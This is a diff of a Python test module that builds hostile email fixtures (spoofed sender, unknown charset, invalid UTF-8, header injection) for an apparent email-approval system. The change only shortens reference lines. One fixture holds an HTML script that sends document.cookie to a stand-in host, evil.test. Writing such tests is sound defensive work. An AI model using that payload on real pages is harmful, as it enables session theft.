@@ -59,7 +59,7 @@ def corpus(root: Path, keys: KeyRing) -> list[Hostile]:
         + approval.body.split("\n\n")[-1]
     html = (b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>I approve</p>"
             b"<script>fetch('https://evil.test/'+document.cookie)</script>"
-            b"<p>Ref: portal/acme/question/scope</p>\r\n")
+            b"<p>Ref: acme/scope</p>\r\n")
     return [
         Hostile("spoofed From with a valid-looking body",
                 answered(approval, CARL, "<spoof@mail.acme.test>"),
@@ -97,13 +97,13 @@ def corpus(root: Path, keys: KeyRing) -> list[Hostile]:
         Hostile("an unknown character set",
                 keys.sign(_raw("<klingon@mail.acme.test>",
                                b"Content-Type: text/plain; charset=x-klingon\r\n\r\nQapla'"
-                               b"\r\nRef: portal/acme/question/scope\r\n"), "acme.test"),
+                               b"\r\nRef: acme/scope\r\n"), "acme.test"),
                 "is written in an unknown character set 'x-klingon'"),
         Hostile("bytes that are not the declared UTF-8",
                 keys.sign(_raw("<bytes@mail.acme.test>",
                                b"Content-Type: text/plain; charset=utf-8\r\n"
                                b"Content-Transfer-Encoding: 8bit\r\n\r\nHello \xff\xfe\xc3\r\n"
-                               b"Ref: portal/acme/question/scope\r\n"), "acme.test"),
+                               b"Ref: acme/scope\r\n"), "acme.test"),
                 "is not valid utf-8 text"),
         Hostile("header injection in the subject",
                 keys.sign(_raw("<inject@mail.acme.test>",
